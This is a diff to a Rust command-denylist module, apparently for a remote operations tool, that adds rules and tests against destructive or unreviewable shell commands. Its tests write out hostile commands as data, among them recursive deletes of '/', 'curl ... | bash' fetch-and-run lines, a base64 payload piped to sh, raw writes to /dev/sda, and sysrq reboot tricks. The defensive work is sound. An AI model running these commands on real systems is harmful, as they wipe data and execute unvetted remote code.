@@ -10,9 +10,16 @@
 //! literal shell word, and [`RemoteCommand::program`] builds a command from a program name and
 //! quoted arguments.
 
+mod shell;
+
 use std::fmt;
 
 use serde::{Deserialize, Serialize};
+
+use shell::{Arg, Invocation, program_name};
+
+/// The longest command the checker reads; longer ones belong in a playbook's script file.
+pub const MAX_COMMAND_BYTES: usize = 16 * 1024;
 
 /// Where a command comes from. Playbooks may restart machines; ad-hoc commands may not.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
@@ -22,6 +29,9 @@ pub enum CommandContext {
     AdHoc,
     /// A step of a reviewed, versioned playbook.
     Playbook,
+    /// One of GUARDiA's own read-only checks (health probes): checked like an ad-hoc
+    /// command, and allowed on systems that run playbook steps only.
+    Check,
 }
 
 /// A command that passed the denylist. The text is exactly what the site's shell will run.
@@ -46,9 +56,15 @@ pub struct Refusal {
 #[serde(rename_all = "snake_case")]
 pub enum DenyRule {
     Empty,
+    TooLong,
     ControlCharacter,
     InvisibleCharacter,
+    Unreadable,
+    ComputedCommand,
+    PipeIntoInterpreter,
+    PlaybookOnly,
     RecursiveDeleteOfSystemPath,
+    ComputedDeleteTarget,
     MakeFilesystem,
     RawDeviceWrite,
     ForkBomb,
@@ -60,9 +76,15 @@ impl DenyRule {
     pub fn as_str(self) -> &'static str {
         match self {
             Self::Empty => "empty",
+            Self::TooLong => "too_long",
             Self::ControlCharacter => "control_character",
             Self::InvisibleCharacter => "invisible_character",
+            Self::Unreadable => "unreadable",
+            Self::ComputedCommand => "computed_command",
+            Self::PipeIntoInterpreter => "pipe_into_interpreter",
+            Self::PlaybookOnly => "playbook_only",
             Self::RecursiveDeleteOfSystemPath => "recursive_delete_of_system_path",
+            Self::ComputedDeleteTarget => "computed_delete_target",
             Self::MakeFilesystem => "make_filesystem",
             Self::RawDeviceWrite => "raw_device_write",
             Self::ForkBomb => "fork_bomb",
@@ -74,6 +96,24 @@ impl DenyRule {
     fn explanation(self) -> &'static str {
         match self {
             Self::Empty => "there is nothing to run",
+            Self::TooLong => {
+                "the command is longer than 16 KiB; put long scripts in a reviewed playbook"
+            }
+            Self::Unreadable => {
+                "the checker cannot read this as shell syntax, so it cannot tell what would run"
+            }
+            Self::ComputedCommand => {
+                "the program to run is computed when the command runs (variable, command output, glob), so no one can check it beforehand; write the program name out"
+            }
+            Self::PipeIntoInterpreter => {
+                "piping into a shell or an interpreter runs a program that is data, which no one can check beforehand"
+            }
+            Self::PlaybookOnly => {
+                "this system runs only commands of reviewed playbooks (allowlist mode); ad-hoc commands are refused"
+            }
+            Self::ComputedDeleteTarget => {
+                "a recursive forced delete of a path computed at run time (variable, command output, xargs) could wipe any directory; write the path out"
+            }
             Self::ControlCharacter => {
                 "the command holds a control character that a terminal would hide from a reviewer"
             }
@@ -101,6 +141,13 @@ impl DenyRule {
 impl fmt::Display for DenyRule {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         f.write_str(self.as_str())
+    }
+}
+
+impl Refusal {
+    /// An ad-hoc command for a server of `system`, which runs playbook steps only.
+    pub fn playbook_only(system: &str) -> Self {
+        refuse(DenyRule::PlaybookOnly, format!("system {system}"))
     }
 }
 
@@ -178,6 +225,9 @@ fn deny(text: &str, context: CommandContext) -> Result<(), Refusal> {
     if text.trim().is_empty() {
         return Err(refuse(DenyRule::Empty, ""));
     }
+    if text.len() > MAX_COMMAND_BYTES {
+        return Err(refuse(DenyRule::TooLong, format!("{} bytes", text.len())));
+    }
     if let Some(c) = text
         .chars()
         .find(|c| c.is_control() && !matches!(c, '\n' | '\t'))
@@ -192,11 +242,16 @@ fn deny(text: &str, context: CommandContext) -> Result<(), Refusal> {
     }
     fork_bomb(text)?;
     destructive_sql(text)?;
+    for invocation in shell::invocations(text)? {
+        check_invocation(&invocation, context)?;
+    }
+    // A second, quote-blind reading: a dangerous command inside a quoted argument (a script
+    // handed to an interpreter, a string for a remote shell) is refused too.
     for words in simple_commands(text) {
         rm_rf(&words)?;
         mkfs(&words)?;
         raw_device(&words)?;
-        if context == CommandContext::AdHoc {
+        if context != CommandContext::Playbook {
             power_off(&words)?;
         }
     }
@@ -234,9 +289,276 @@ fn simple_commands(text: &str) -> Vec<Vec<String>> {
     commands
 }
 
-/// The program name of a word, without a directory: `/bin/rm` → `rm`.
-fn program_name(word: &str) -> &str {
-    word.rsplit('/').next().unwrap_or(word)
+/// The rules on one program as it will run, after its wrappers were unwrapped.
+fn check_invocation(inv: &Invocation, context: CommandContext) -> Result<(), Refusal> {
+    for target in &inv.writes {
+        if writes_block_device(target) {
+            return Err(refuse(
+                DenyRule::RawDeviceWrite,
+                format!("> {}", target.text),
+            ));
+        }
+        if context != CommandContext::Playbook && normalize(&target.text) == "/proc/sysrq-trigger" {
+            return Err(refuse(DenyRule::PowerOff, "> /proc/sysrq-trigger"));
+        }
+    }
+    let args = inv.args();
+    let literal = |a: &Arg| !a.computed && a.text.starts_with('-');
+    match inv.program() {
+        "rm" => {
+            let (mut recursive, mut force, mut no_preserve) = (false, false, false);
+            for a in args.iter().filter(|a| literal(a)) {
+                match a.text.as_str() {
+                    "--recursive" => recursive = true,
+                    "--force" => force = true,
+                    "--no-preserve-root" => no_preserve = true,
+                    t if !t.starts_with("--") => {
+                        recursive |= t.contains(['r', 'R']);
+                        force |= t.contains('f');
+                    }
+                    _ => {}
+                }
+            }
+            if !(recursive && (force || no_preserve)) {
+                return Ok(());
+            }
+            if no_preserve {
+                return Err(refuse(
+                    DenyRule::RecursiveDeleteOfSystemPath,
+                    "rm --no-preserve-root",
+                ));
+            }
+            for a in args.iter().filter(|a| !literal(a)) {
+                if protects(a) {
+                    return Err(refuse(
+                        DenyRule::RecursiveDeleteOfSystemPath,
+                        format!("rm -rf {}", a.text),
+                    ));
+                }
+                if a.computed {
+                    return Err(refuse(
+                        DenyRule::ComputedDeleteTarget,
+                        format!("rm -rf {}", a.text),
+                    ));
+                }
+            }
+            if inv.computed_tail {
+                return Err(refuse(DenyRule::ComputedDeleteTarget, "xargs rm -rf"));
+            }
+        }
+        "find" => {
+            let deletes = args.iter().enumerate().any(|(i, a)| {
+                a.text == "-delete"
+                    || (matches!(a.text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir")
+                        && args
+                            .get(i + 1)
+                            .is_some_and(|p| program_name(&p.text) == "rm"))
+            });
+            let starts = args.iter().take_while(|a| {
+                a.computed || !(a.text.starts_with('-') || a.text == "(" || a.text == "!")
+            });
+            if deletes {
+                for a in starts {
+                    if a.computed {
+                        return Err(refuse(
+                            DenyRule::ComputedDeleteTarget,
+                            format!("find {} -delete", a.text),
+                        ));
+                    }
+                    if protects(a) {
+                        return Err(refuse(
+                            DenyRule::RecursiveDeleteOfSystemPath,
+                            format!("find {} -delete", a.text),
+                        ));
+                    }
+                }
+            }
+        }
+        "mkfs" | "mke2fs" | "mkswap" | "wipefs" => {
+            return Err(refuse(DenyRule::MakeFilesystem, inv.program()));
+        }
+        name if name.starts_with("mkfs.") => return Err(refuse(DenyRule::MakeFilesystem, name)),
+        "dd" => {
+            if let Some(of) = args.iter().find(|a| {
+                a.text.strip_prefix("of=").is_some_and(|p| {
+                    writes_block_device(&Arg {
+                        text: p.to_owned(),
+                        ..(*a).clone()
+                    })
+                })
+            }) {
+                return Err(refuse(DenyRule::RawDeviceWrite, format!("dd {}", of.text)));
+            }
+        }
+        "tee" | "shred" | "blkdiscard" | "cp" | "cat" | "install" => {
+            let writes_to = if inv.program() == "cp" || inv.program() == "install" {
+                args.last().into_iter().collect::<Vec<_>>()
+            } else if inv.program() == "cat" {
+                Vec::new()
+            } else {
+                args.iter().collect()
+            };
+            if let Some(dev) = writes_to.into_iter().find(|a| writes_block_device(a)) {
+                return Err(refuse(
+                    DenyRule::RawDeviceWrite,
+                    format!("{} {}", inv.program(), dev.text),
+                ));
+            }
+        }
+        _ => {}
+    }
+    if context != CommandContext::Playbook {
+        let words: Vec<String> = inv.words.iter().map(|a| a.text.clone()).collect();
+        power_off_at(&words, 0)?;
+        if inv.program() == "kill"
+            && args
+                .iter()
+                .any(|a| !a.computed && (a.text == "1" || a.text == "-1"))
+        {
+            return Err(refuse(
+                DenyRule::PowerOff,
+                format!("kill {}", words[1..].join(" ")),
+            ));
+        }
+    }
+    Ok(())
+}
+
+/// `path` with `//`, `/./` and `/x/..` folded, as the kernel would resolve them (lexically:
+/// symbolic links are not followed).
+fn normalize(path: &str) -> String {
+    if !path.starts_with('/') {
+        return path.to_owned();
+    }
+    let mut parts: Vec<&str> = Vec::new();
+    for part in path.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            p => parts.push(p),
+        }
+    }
+    let mut out = format!("/{}", parts.join("/"));
+    if path.ends_with('/') && !parts.is_empty() {
+        out.push('/');
+    }
+    out
+}
+
+/// Whether a delete target is, or by its glob may match, a protected path.
+fn protects(arg: &Arg) -> bool {
+    arg.alternatives().iter().any(|alt| {
+        let path = normalize(alt);
+        if is_system_path(&path) {
+            return true;
+        }
+        arg.pattern && glob_hits_system_path(&path)
+    })
+}
+
+/// `/*/`, `/e?c`, `/[eu]*`, `/*/*`: a pattern whose first directory may match a system
+/// directory (or everything) and whose deeper parts are wildcards only.
+fn glob_hits_system_path(pattern: &str) -> bool {
+    let Some(rest) = pattern.strip_prefix('/') else {
+        return false;
+    };
+    let mut parts = rest.split('/').filter(|p| !p.is_empty());
+    let Some(first) = parts.next() else {
+        return true;
+    };
+    let wild_only = |p: &str| p.chars().all(|c| matches!(c, '*' | '?'));
+    let first_hits = SYSTEM_DIRS.iter().any(|d| glob_match(first, d));
+    first_hits && parts.all(wild_only)
+}
+
+/// Shell glob matching of one path component: `*`, `?`, `[abc]`, `[a-z]`, `[!x]`.
+fn glob_match(pattern: &str, name: &str) -> bool {
+    let p: Vec<char> = pattern.chars().collect();
+    let n: Vec<char> = name.chars().collect();
+    let (mut pi, mut ni) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+    while ni < n.len() {
+        if pi < p.len() {
+            match p[pi] {
+                '*' => {
+                    star = Some((pi, ni));
+                    pi += 1;
+                    continue;
+                }
+                '?' => {
+                    pi += 1;
+                    ni += 1;
+                    continue;
+                }
+                '[' => {
+                    if let Some((matched, next)) = class_match(&p, pi, n[ni])
+                        && matched
+                    {
+                        pi = next;
+                        ni += 1;
+                        continue;
+                    }
+                }
+                c if c == n[ni] => {
+                    pi += 1;
+                    ni += 1;
+                    continue;
+                }
+                _ => {}
+            }
+        }
+        match star {
+            Some((sp, sn)) => {
+                pi = sp + 1;
+                ni = sn + 1;
+                star = Some((sp, sn + 1));
+            }
+            None => return false,
+        }
+    }
+    p[pi..].iter().all(|c| *c == '*')
+}
+
+/// Whether `c` matches the bracket class starting at `p[at] == '['`, and where it ends.
+fn class_match(p: &[char], at: usize, c: char) -> Option<(bool, usize)> {
+    let mut i = at + 1;
+    let negate = matches!(p.get(i), Some('!' | '^'));
+    if negate {
+        i += 1;
+    }
+    let mut matched = false;
+    let mut first = true;
+    while let Some(&x) = p.get(i) {
+        if x == ']' && !first {
+            return Some((matched != negate, i + 1));
+        }
+        if p.get(i + 1) == Some(&'-') && p.get(i + 2).is_some_and(|e| *e != ']') {
+            matched |= (x..=p[i + 2]).contains(&c);
+            i += 3;
+        } else {
+            matched |= x == c;
+            i += 1;
+        }
+        first = false;
+    }
+    None
+}
+
+/// Whether writing to `target` writes to a block device (a glob under `/dev` counts).
+fn writes_block_device(target: &Arg) -> bool {
+    target.alternatives().iter().any(|alt| {
+        let path = normalize(alt);
+        if target.pattern && path.starts_with("/dev/") {
+            return !is_block_device_safe_pattern(&path);
+        }
+        is_block_device(&path)
+    })
+}
+
+fn is_block_device_safe_pattern(path: &str) -> bool {
+    path.starts_with("/dev/fd/") || path.starts_with("/dev/shm/")
 }
 
 /// Words that run the rest of the line as a command.
@@ -310,22 +632,24 @@ fn rm_rf(words: &[String]) -> Result<(), Refusal> {
     Ok(())
 }
 
-/// `/`, `/*`, `~`, `$HOME` (braces are dropped, so `${HOME}` too), `.`/`..` and the
+/// The top-level directories a recursive delete must never take.
+const SYSTEM_DIRS: &[&str] = &[
+    "bin", "boot", "dev", "etc", "home", "lib", "lib32", "lib64", "opt", "proc", "root", "sbin",
+    "srv", "sys", "usr", "var",
+];
+
+/// `/`, `/*`, `~`, `~user`, `$HOME` (braces are dropped, so `${HOME}` too), `.`/`..` and the
 /// top-level system directories, with or without trailing `/` or `/*`.
 fn is_system_path(arg: &str) -> bool {
-    const SYSTEM: &[&str] = &[
-        "bin", "boot", "dev", "etc", "home", "lib", "lib32", "lib64", "opt", "proc", "root",
-        "sbin", "srv", "sys", "usr", "var",
-    ];
     let trimmed = arg.trim_end_matches('*').trim_end_matches('/');
-    if trimmed.is_empty() || matches!(trimmed, "~" | "$HOME" | "." | ".." | "/.") {
+    if trimmed.is_empty() || matches!(trimmed, "~" | "$HOME" | "${HOME}" | "." | ".." | "/.") {
         return true;
     }
     if let Some(rest) = trimmed.strip_prefix('/') {
         let rest = rest.trim_end_matches('.');
-        return rest.is_empty() || SYSTEM.contains(&rest);
+        return rest.is_empty() || SYSTEM_DIRS.contains(&rest);
     }
-    trimmed.starts_with("~/") && trimmed.len() <= 2
+    trimmed.starts_with('~') && !trimmed.contains('/')
 }
 
 fn mkfs(words: &[String]) -> Result<(), Refusal> {
@@ -421,22 +745,37 @@ fn fork_bomb(text: &str) -> Result<(), Refusal> {
 
 fn power_off(words: &[String]) -> Result<(), Refusal> {
     for i in command_positions(words) {
-        let name = program_name(&words[i]);
-        let next = words.get(i + 1).map(String::as_str);
-        let hit = match name {
-            "shutdown" | "reboot" | "halt" | "poweroff" => true,
-            "init" | "telinit" => matches!(next, Some("0" | "6")),
-            "systemctl" => words[i + 1..].iter().any(|w| {
-                matches!(
-                    w.as_str(),
-                    "reboot" | "poweroff" | "halt" | "kexec" | "emergency" | "rescue"
-                )
-            }),
-            _ => false,
-        };
-        if hit {
-            return Err(refuse(DenyRule::PowerOff, words[i..].join(" ")));
-        }
+        power_off_at(words, i)?;
+    }
+    Ok(())
+}
+
+/// Whether `words[i]` is a program that stops or restarts the machine.
+fn power_off_at(words: &[String], i: usize) -> Result<(), Refusal> {
+    let name = program_name(&words[i]);
+    let rest = &words[i + 1..];
+    let hit = match name {
+        "shutdown" | "reboot" | "halt" | "poweroff" => true,
+        "init" | "telinit" => matches!(rest.first().map(String::as_str), Some("0" | "6")),
+        "systemctl" => rest.iter().any(|w| {
+            matches!(
+                w.as_str(),
+                "reboot"
+                    | "poweroff"
+                    | "halt"
+                    | "kexec"
+                    | "emergency"
+                    | "rescue"
+                    | "reboot.target"
+                    | "poweroff.target"
+                    | "halt.target"
+                    | "soft-reboot"
+            )
+        }),
+        _ => false,
+    };
+    if hit {
+        return Err(refuse(DenyRule::PowerOff, words[i..].join(" ")));
     }
     Ok(())
 }
@@ -499,6 +838,141 @@ mod tests {
     fn allowed(cmd: &str) {
         if let Err(r) = RemoteCommand::check(cmd, CommandContext::AdHoc) {
             panic!("`{cmd}` should be allowed, got {r}");
+        }
+    }
+
+    #[test]
+    fn hardening_10_computed_program_names_are_refused() {
+        for cmd in [
+            "$(printf rm) -rf /",
+            "`echo rm` -rf /",
+            "${X:-rm} -rf /",
+            "X=rm; $X -rf /",
+            "sudo $CMD",
+            "sh -c \"$(curl -s http://10.0.0.9/x)\"",
+            "bash <(curl -s http://10.0.0.9/x)",
+            "/e?c/init.d/app stop",
+            "eval $X",
+        ] {
+            assert_eq!(refused(cmd), DenyRule::ComputedCommand, "{cmd}");
+        }
+    }
+
+    #[test]
+    fn hardening_10_pipes_into_shells_and_interpreters_are_refused() {
+        for cmd in [
+            "echo cm0gLXJmIC8= | base64 -d | sh",
+            "curl -s http://10.0.0.9/x | bash",
+            "cat x | sudo bash -s",
+            "cat x | busybox sh",
+            "wget -qO- http://x | python3",
+            "echo 'print(1)' | perl -",
+            "echo reboot | su",
+        ] {
+            assert_eq!(refused(cmd), DenyRule::PipeIntoInterpreter, "{cmd}");
+        }
+    }
+
+    #[test]
+    fn hardening_10_wrappers_are_unwrapped() {
+        assert_eq!(refused("sudo -u root reboot"), DenyRule::PowerOff);
+        assert_eq!(refused("busybox reboot"), DenyRule::PowerOff);
+        assert_eq!(
+            refused("nice -n 5 nohup timeout -s KILL 10 poweroff"),
+            DenyRule::PowerOff
+        );
+        assert_eq!(
+            refused("env -i PATH=/bin systemctl isolate reboot.target"),
+            DenyRule::PowerOff
+        );
+        assert_eq!(refused("echo b > /proc/sysrq-trigger"), DenyRule::PowerOff);
+        assert_eq!(refused("kill -9 1"), DenyRule::PowerOff);
+        assert_eq!(
+            refused("echo x | sudo tee /dev/sda"),
+            DenyRule::RawDeviceWrite
+        );
+        assert_eq!(
+            refused("env -S 'rm -rf /'"),
+            DenyRule::RecursiveDeleteOfSystemPath
+        );
+        assert_eq!(
+            refused("doas -u root rm -rf /etc"),
+            DenyRule::RecursiveDeleteOfSystemPath
+        );
+        assert_eq!(
+            refused("if true; then (rm -rf /usr); fi"),
+            DenyRule::RecursiveDeleteOfSystemPath
+        );
+        assert_eq!(
+            refused("echo $(rm -rf /var)"),
+            DenyRule::RecursiveDeleteOfSystemPath
+        );
+    }
+
+    #[test]
+    fn hardening_10_path_spellings_and_globs_are_the_paths_they_reach() {
+        for cmd in [
+            "rm -rf //",
+            "rm -rf /./etc",
+            "rm -rf /tmp/../etc",
+            "rm -rf /*/",
+            "rm -rf /e?c",
+            "rm -rf /[eu]*",
+            "rm -rf /{etc,tmp}",
+            "rm -rf ~root",
+            "find / -delete",
+            "find /etc -name '*.conf' -delete",
+            "find / -exec rm -rf {} +",
+        ] {
+            assert_eq!(refused(cmd), DenyRule::RecursiveDeleteOfSystemPath, "{cmd}");
+        }
+        for cmd in [
+            "dd if=/dev/zero of=//dev/sda",
+            "echo x > /./dev/sda",
+            "cat img > /dev/sd?",
+            "shred /dev/nvme0n1",
+        ] {
+            assert_eq!(refused(cmd), DenyRule::RawDeviceWrite, "{cmd}");
+        }
+        for cmd in [
+            "rm -rf \"$APP_DIR\"",
+            "find /tmp -type f | xargs rm -rf",
+            "find $DIR -delete",
+        ] {
+            assert_eq!(refused(cmd), DenyRule::ComputedDeleteTarget, "{cmd}");
+        }
+    }
+
+    #[test]
+    fn hardening_10_what_cannot_be_read_is_refused() {
+        assert_eq!(refused("echo 'unterminated"), DenyRule::Unreadable);
+        assert_eq!(refused(&"echo x; ".repeat(3000)), DenyRule::TooLong);
+    }
+
+    #[test]
+    fn hardening_10_everyday_commands_still_pass() {
+        for cmd in [
+            "find /opt/app/tmp -name '*.tmp' -mtime +7 -delete",
+            "find /var/log/app -name '*.gz' -exec rm -f {} +",
+            "ps aux | grep java | grep -v grep",
+            "tail -n 50 /var/log/app/app.log | grep -i error",
+            "df -h / && free -m",
+            "for f in /opt/app/logs/*.log; do wc -l \"$f\"; done",
+            "echo $HOME; id -un",
+            "rm -f \"$TMPDIR/app.pid\"",
+            "rm -rf /opt/app/releases/2026-01-01",
+            "python3 -c 'import sys; print(sys.version)'",
+            "tar czf /tmp/backup.tgz -C /opt app",
+            "kill -TERM 1234",
+            "sudo systemctl restart app",
+            "cat <<EOF > /tmp/x\nhello $(date)\nEOF",
+            "kill -TERM -42 2>/dev/null; i=0; while kill -0 -42 2>/dev/null && [ $i -lt 20 ]; do sleep 0.1; i=$((i+1)); done",
+            "sh /opt/app/bin/startup.sh",
+            "command -v rm",
+            "echo data | tee /tmp/out.txt",
+            "printf '%s\\n' a b | sort | uniq -c",
+        ] {
+            allowed(cmd);
         }
     }
 
